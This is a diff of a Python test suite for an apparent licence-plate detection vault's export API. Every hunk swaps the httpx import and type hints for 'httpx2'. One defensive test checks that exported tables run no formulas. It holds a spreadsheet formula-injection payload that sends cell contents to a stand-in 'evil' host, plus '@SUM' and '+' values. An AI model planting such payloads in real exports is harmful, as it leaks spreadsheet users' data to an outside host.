@@ -12,7 +12,7 @@ from datetime import timedelta
 from pathlib import Path
 from typing import Any
 
-import httpx
+import httpx2
 import pytest
 from sqlalchemy import text
 from starlette.types import Message
@@ -68,14 +68,14 @@ def outcomes(manifest: Mapping[str, Any]) -> dict[str, str]:
     }
 
 
-async def exported(client: httpx.AsyncClient, query: str = "", **more: Any) -> tuple[zipfile.ZipFile, dict[str, Any]]:
+async def exported(client: httpx2.AsyncClient, query: str = "", **more: Any) -> tuple[zipfile.ZipFile, dict[str, Any]]:
     answer = await client.get(f"/v1/export{query}", **more)
     assert answer.status_code == 200, answer.text
     return opened(answer.content)
 
 
 async def test_images_stand_under_their_keys_with_the_bytes_of_their_digest(
-    vault: Vault, viewer: httpx.AsyncClient
+    vault: Vault, viewer: httpx2.AsyncClient
 ) -> None:
     images = [an_image_of("evt_1"), an_image_of("evt_1", "crop")]
     await stored(vault, a_detection("evt_1", images=images, vehicle={"make": "Renault"}, data={"speed": 34}))
@@ -105,7 +105,7 @@ async def test_images_stand_under_their_keys_with_the_bytes_of_their_digest(
     assert archive.comment == b"Platevault export: 1 detections; nothing follows"
 
 
-async def test_filters_as_json_say_the_same(vault: Vault, viewer: httpx.AsyncClient) -> None:
+async def test_filters_as_json_say_the_same(vault: Vault, viewer: httpx2.AsyncClient) -> None:
     await stored(vault, a_stored("evt_1"), a_stored("evt_2", plate="ZZ-9"))
     answer = await viewer.post("/v1/export", json={"plate": "ZZ9", "limit": 5})
     assert list(outcomes(opened(answer.content)[1])) == ["evt_2 full"]
@@ -113,7 +113,7 @@ async def test_filters_as_json_say_the_same(vault: Vault, viewer: httpx.AsyncCli
 
 
 async def test_what_is_not_there_is_listed_with_its_reason_and_never_faked(
-    vault: Vault, viewer: httpx.AsyncClient, tmp_path: Path
+    vault: Vault, viewer: httpx2.AsyncClient, tmp_path: Path
 ) -> None:
     images = [an_image(state, state=state) for state in ("expired", "deleted", "missing", "rejected")]
     await stored(vault, a_detection("evt_1", images=[*images, an_image_of("evt_1", "absent"), an_image_of("evt_1")]))
@@ -170,7 +170,7 @@ async def test_an_image_that_was_drained_or_moved_meanwhile_is_read_where_it_is(
     assert archive.namelist()[0] == "holds/full/2025/01/15/evt_1_full.jpg"
 
 
-async def test_a_part_says_where_the_next_one_begins(vault: Vault, viewer: httpx.AsyncClient) -> None:
+async def test_a_part_says_where_the_next_one_begins(vault: Vault, viewer: httpx2.AsyncClient) -> None:
     await stored(vault, *(a_stored(f"evt_{number}", minutes=number) for number in range(5)))
     seen, query = [], "?limit=2"
     for complete in (False, False, True):
@@ -195,7 +195,7 @@ async def test_pages_are_written_down_before_their_bytes_go_out(vault: Vault) ->
     assert {(look["purpose"], look["case"], look["route"]) for look in found} == {("theft", "1", "/v1/export")}
 
 
-async def test_a_table_runs_nothing_in_a_spreadsheet(vault: Vault, viewer: httpx.AsyncClient) -> None:
+async def test_a_table_runs_nothing_in_a_spreadsheet(vault: Vault, viewer: httpx2.AsyncClient) -> None:
     evil = '=HYPERLINK("http://evil/?"&A1;"x")'
     rows = [
         a_detection("evt_0", plate=evil, plate_searchable="X", camera_id="  +north", region="@SUM(A1)"),
@@ -213,7 +213,7 @@ async def test_a_table_runs_nothing_in_a_spreadsheet(vault: Vault, viewer: httpx
     assert (two["captured_at"], two["held"]) == ("2025-01-15T12:00:00+00:00", "no")
 
 
-async def test_an_export_of_nothing_is_whole_and_empty(vault: Vault, viewer: httpx.AsyncClient) -> None:
+async def test_an_export_of_nothing_is_whole_and_empty(vault: Vault, viewer: httpx2.AsyncClient) -> None:
     archive, manifest = await exported(viewer, "?plate=NONE")
     assert archive.namelist() == NAMES
     assert (manifest["detections"], manifest["complete"]) == ([], True)
@@ -226,7 +226,7 @@ async def test_an_export_of_nothing_is_whole_and_empty(vault: Vault, viewer: htt
      ("order=seq", "order"), ("after=0", "after"), ("plat=x", "plat"), ("cursor=x", "cursor")],
 )  # fmt: skip
 async def test_a_wrong_question_is_a_problem_not_an_archive(
-    vault: Vault, viewer: httpx.AsyncClient, query: str, named: str
+    vault: Vault, viewer: httpx2.AsyncClient, query: str, named: str
 ) -> None:
     answer = await viewer.get(f"/v1/export?{query}")
     assert (answer.status_code, answer.headers["content-type"]) == (422, "application/problem+json")
@@ -422,7 +422,7 @@ async def test_no_more_than_a_few_images_are_in_memory(vault: Vault) -> None:
     assert 1 <= ahead <= 10
 
 
-async def test_nothing_stays_on_the_disk(vault: Vault, viewer: httpx.AsyncClient, tmp_path: Path) -> None:
+async def test_nothing_stays_on_the_disk(vault: Vault, viewer: httpx2.AsyncClient, tmp_path: Path) -> None:
     await stored(vault, a_stored("evt_1"))
     before = sorted(tmp_path.rglob("*"))
     await exported(viewer)
